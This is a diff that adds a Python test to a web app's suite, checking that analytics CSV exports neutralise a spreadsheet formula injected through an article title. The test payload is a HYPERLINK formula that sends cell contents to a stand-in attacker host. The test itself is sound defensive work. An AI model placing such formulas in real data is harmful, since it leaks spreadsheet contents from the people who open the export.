@@ -303,3 +303,25 @@ def test_the_consoles_filters_find_a_customer_nothing_internal(srv, amy, agent):
         assert "zqvault-internal" not in r.text and "sealing" not in r.text
     r = requests.get(srv.url("/api/v1/suggest"), params={"q": "zqvau"}, timeout=30)
     assert r.json()["suggestions"] == []
+
+
+def test_a_writers_formula_title_is_neutralised_in_every_csv(srv, amy, admin, agent):
+    import csv
+    import io
+    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    r = amy.post(srv.url("/api/v1/articles"), json={"title": title, "body": "zqformula"},
+                 timeout=30)
+    a = r.json()
+    assert amy.post(srv.url("/api/v1/articles/%s/publish" % a["ref"]), timeout=30).ok
+    assert requests.get(srv.url("/kb/%d" % a["number"]), timeout=30).status_code == 200
+    r = agent.post(srv.url("/api/v1/events"), json={"type": "copy", "article": a["number"]},
+                   timeout=30)
+    assert r.status_code == 202, r.text
+    for route in ("views", "agents"):
+        r = admin.get(srv.url("/api/v1/analytics/" + route), params={"format": "csv"},
+                      timeout=30)
+        assert r.status_code == 200, r.text
+        cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
+        assert "'" + title in cells, (route, r.text)
+        assert title not in cells
+        assert not any(c[:1] in ("=", "+", "-", "@") for c in cells if not c.lstrip("-").replace(".", "").isdigit()), r.text
